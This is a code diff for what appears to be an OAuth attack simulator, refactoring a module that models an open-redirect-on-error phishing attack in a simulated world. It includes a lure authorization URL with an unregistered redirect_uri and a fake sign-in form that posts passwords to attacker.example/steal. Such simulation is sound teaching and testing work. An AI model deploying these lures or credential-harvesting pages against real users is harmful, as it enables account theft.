@@ -11,7 +11,7 @@
 use crate::actors::defenses::DefenseId;
 use crate::actors::well_known as wk;
 use crate::actors::{ActorId, Defenses, UserAction};
-use crate::attacks::attacker::{Attacker, Kit, Moves, Playbook};
+use crate::attacks::attacker::{Attacker, Kit, Loot, Moves, Playbook};
 use crate::attacks::setup::*;
 use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
 use crate::protocol::requests::{AuthorizationRequest, ResponseType};
@@ -22,8 +22,6 @@ pub struct OpenRedirectOnError;
 
 /// How the lure reaches Alice.
 const VIA: &str = "an e-mail from attacker.example";
-/// The look-alike sign-in page, the redirect URI of the lure.
-const PHISHING_PAGE: &str = "https://attacker.example/signin";
 
 static INFO: AttackInfo = AttackInfo {
     id: "open-redirect-on-error",
@@ -60,24 +58,35 @@ static INFO: AttackInfo = AttackInfo {
     references: "RFC 6749 §4.1.2.1; RFC 9700 §4.11.2",
 };
 
-fn lure() -> String {
-    AuthorizationRequest::new(ResponseType::Code, wk::CLIENT_ID, PHISHING_PAGE)
+/// The lure: an authorization request for Photo Printer at `as_issuer` whose redirect
+/// URI is the look-alike page of the attacker's site at `site`.
+pub fn lure(as_issuer: &str, site: &str) -> String {
+    AuthorizationRequest::new(ResponseType::Code, wk::CLIENT_ID, &phishing_page(site))
         .scope("openid photos.read")
-        .url(&format!("{}/authorize", wk::AS_ISSUER))
+        .url(&format!("{as_issuer}/authorize"))
+}
+
+fn phishing_page(site: &str) -> String {
+    format!("{site}/signin")
 }
 
 /// The attacker's one move: the e-mail with the lure.
-struct Lure;
+struct Lure {
+    as_issuer: String,
+    site: String,
+}
 
 impl Playbook for Lure {
     fn on_input(&mut self, _kit: &mut Kit, ctx: &mut Moves<'_, '_>, name: &str, _value: &str) {
         if name != SEND_LINK {
             return;
         }
-        let url = lure();
+        let url = lure(&self.as_issuer, &self.site);
         ctx.note(format!(
-            "Attacker: e-mails Alice a link to {}/authorize, a real as.example address; its redirect_uri is {PHISHING_PAGE}, which Photo Printer never registered.",
-            wk::AS_ISSUER
+            "Attacker: e-mails Alice a link to {}/authorize, a real {} address; its redirect_uri is {}, which Photo Printer never registered.",
+            self.as_issuer,
+            host_of(&self.as_issuer),
+            phishing_page(&self.site)
         ));
         ctx.input(
             ActorId::new(wk::BROWSER),
@@ -90,6 +99,38 @@ impl Playbook for Lure {
     }
 }
 
+/// The attacker's site at `site` (its origin), labelled `label`: a copy of the sign-in
+/// page of the AS at `as_issuer` at `/signin`, whose form posts to the site's `/steal`.
+pub fn attacker_site(label: &str, site: &str, as_issuer: &str) -> Attacker {
+    let lure = Lure {
+        as_issuer: as_issuer.to_string(),
+        site: site.to_string(),
+    };
+    Attacker::new(ATTACKER, label, &[site], lure).with_page(
+        "/signin",
+        "Sign in",
+        &format!(
+            r#"<h1>{}</h1><p>Your session expired. Sign in again to continue.</p>
+<form id="login" method="post" action="{site}/steal">
+<input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>"#,
+            host_of(as_issuer)
+        ),
+    )
+}
+
+/// `as.example` of `https://as.example`.
+fn host_of(url: &str) -> &str {
+    url.split_once("://").map_or(url, |(_, h)| h)
+}
+
+/// The goal on what the attacker's server holds: Alice's password.
+pub fn goal_of(loot: &Loot) -> Option<String> {
+    loot.passwords
+        .iter()
+        .any(|(u, _)| u == wk::ALICE)
+        .then(|| "the attacker's server received Alice's password".to_string())
+}
+
 /// The instruction that makes the attacker send its e-mail.
 const SEND_LINK: &str = "e-mails Alice a link";
 
@@ -100,14 +141,11 @@ impl Attack for OpenRedirectOnError {
 
     fn build_world(&self, seed: u64, defenses: Defenses) -> Simulation {
         let mut sim = WorldBuilder::standard(seed, defenses).build();
-        let site = Attacker::new(ATTACKER, "Attacker (attacker.example)", &[ATTACKER_ORIGIN], Lure)
-            .with_page(
-                "/signin",
-                "Sign in",
-                r#"<h1>as.example</h1><p>Your session expired. Sign in again to continue.</p>
-<form id="login" method="post" action="https://attacker.example/steal">
-<input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>"#,
-            );
+        let site = attacker_site(
+            "Attacker (attacker.example)",
+            ATTACKER_ORIGIN,
+            wk::AS_ISSUER,
+        );
         sim.add_actor(Box::new(site));
         sim.push_script(instruct(
             ATTACKER,
@@ -118,11 +156,7 @@ impl Attack for OpenRedirectOnError {
     }
 
     fn goal(&self, sim: &Simulation) -> Option<String> {
-        let loot = sim.actor::<Attacker>(ATTACKER)?.loot();
-        loot.passwords
-            .iter()
-            .any(|(u, _)| u == wk::ALICE)
-            .then(|| "the attacker's server received Alice's password".to_string())
+        goal_of(sim.actor::<Attacker>(ATTACKER)?.loot())
     }
 }
 
